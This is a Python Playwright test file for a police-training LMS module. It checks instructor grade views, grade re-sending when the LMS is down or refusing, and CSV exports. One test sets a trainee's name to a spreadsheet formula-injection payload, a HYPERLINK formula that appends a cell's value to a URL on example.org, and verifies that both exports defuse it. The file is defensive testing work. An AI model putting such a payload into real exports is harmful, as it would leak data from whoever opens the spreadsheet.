"""An instructor looks at the cohort, at what answers show, and at grades that the LMS did not take."""

import csv
from pathlib import Path

from playwright.sync_api import FrameLocator, expect

from tests.journeys import deciding, quizzing
from tests.journeys.people import Hall, Visitor
from tests.journeys.pressing import go, push
from tests.journeys.quizzing import button

WITHIN_MS = 20_000
FORMULA = '=HYPERLINK("https://example.org/?"&B2,"Tom Ashworth")'


def let_the_lms_be(visitor: Visitor, mood: str) -> None:
    """Turn the switch of the demo LMS: `up`, `down` or `refusing`."""
    visitor.page.goto(f"{visitor.sites.lms}/northmoor/exchanged")
    visitor.page.locator(f"#mood input[value={mood}]").check()
    go(visitor.page, visitor.page.locator("#mood button"))
    visitor.page.goto(f"{visitor.sites.lms}/northmoor/course")


def open_grades(visitor: Visitor) -> FrameLocator:
    visitor.open_module()
    go(visitor.frame, visitor.frame.get_by_role("link", name="Cohort", exact=True))
    go(visitor.frame, visitor.frame.get_by_role("link", name="Grades to the LMS"))
    expect(visitor.frame.locator("#ledger")).to_be_visible()
    return visitor.frame


def send_again(frame: FrameLocator) -> None:
    go(frame, frame.locator("tr", has_text="Priya Nair").get_by_role("button", name="Send again"))


def taken_home(visitor: Visitor, file: Path) -> list[list[str]]:
    """Download the table of the page that is open."""
    with visitor.page.expect_download() as download:
        push(visitor.frame, visitor.frame.get_by_role("button", name="Download as a spreadsheet (CSV)"))
    download.value.save_as(file)
    with file.open(encoding="utf-8-sig", newline="") as opened:
        return list(csv.reader(opened))


def test_a_grade_that_the_lms_does_not_take_is_seen_explained_and_sent_again(hall: Hall) -> None:
    helen = hall.let_in()
    helen.become("helen")
    let_the_lms_be(helen, "down")
    priya = hall.trainee("priya")
    priya.open_activity("the-shutter")
    push(priya.frame, priya.frame.locator("main .button-primary"))
    deciding.walk_to_the_debrief(priya.frame)
    push(priya.frame, button(priya.frame, "finish"))
    expect(priya.frame.locator(".convive-done")).to_be_visible()
    frame = open_grades(helen)
    row = frame.locator("tr", has_text="Priya Nair")
    expect(row.locator(".why").first).to_be_visible(timeout=WITHIN_MS)
    expect(row).to_contain_text("Waiting")
    let_the_lms_be(helen, "refusing")
    send_again(open_grades(helen))
    expect(row).to_contain_text("Refused", timeout=WITHIN_MS)
    let_the_lms_be(helen, "up")
    send_again(open_grades(helen))
    expect(row).to_contain_text("Sent", timeout=WITHIN_MS)


def test_an_instructor_follows_a_figure_to_what_the_answers_show_and_takes_the_table_home(
    hall: Hall, tmp_path: Path
) -> None:
    tom = hall.trainee("tom")
    tom.open_activity("the-shutter")
    push(tom.frame, tom.frame.locator("main .button-primary"))
    deciding.take_the_recommended(tom.frame)
    helen = hall.trainee("helen")
    go(helen.frame, helen.frame.get_by_role("link", name="Cohort", exact=True))
    expect(helen.frame.get_by_role("heading", name="Who needs me today")).to_be_visible()
    assert any("Tom Ashworth" in row for row in taken_home(helen, tmp_path / "people.csv"))
    go(helen.frame, helen.frame.locator("table.people thead a", has_text="Why this is local police work"))
    go(helen.frame, helen.frame.locator("table.people thead a", has_text="shutter"))
    expect(helen.frame.locator("h1")).to_contain_text("shutter")


def test_a_name_that_is_a_formula_comes_home_harmless_in_both_tables(hall: Hall, tmp_path: Path) -> None:
    tom = hall.trainee("tom")
    tom.open_activity("check")
    push(tom.frame, tom.frame.locator("main .button-primary"))
    quizzing.check_what_is_open(tom.frame)
    quizzing.hand_in(tom.frame)
    # Before an instructor comes: whose coming has the roster read, and that would bring the old name back.
    hall.sites.rename("Tom Ashworth", FORMULA)
    helen = hall.trainee("helen")
    go(helen.frame, helen.frame.get_by_role("link", name="Cohort", exact=True))
    expect(helen.frame.get_by_role("link", name=FORMULA)).to_be_visible()
    people = taken_home(helen, tmp_path / "people.csv")
    go(helen.frame, helen.frame.get_by_role("link", name="Grades to the LMS"))
    expect(helen.frame.locator("#ledger")).to_contain_text(FORMULA)
    grades = taken_home(helen, tmp_path / "grades.csv")
    for table in (people, grades):
        assert [row[0] for row in table if "HYPERLINK" in row[0]] == [f"'{FORMULA}"]
        assert not [cell for row in table for cell in row if cell.startswith(("=", "+", "-", "@"))]
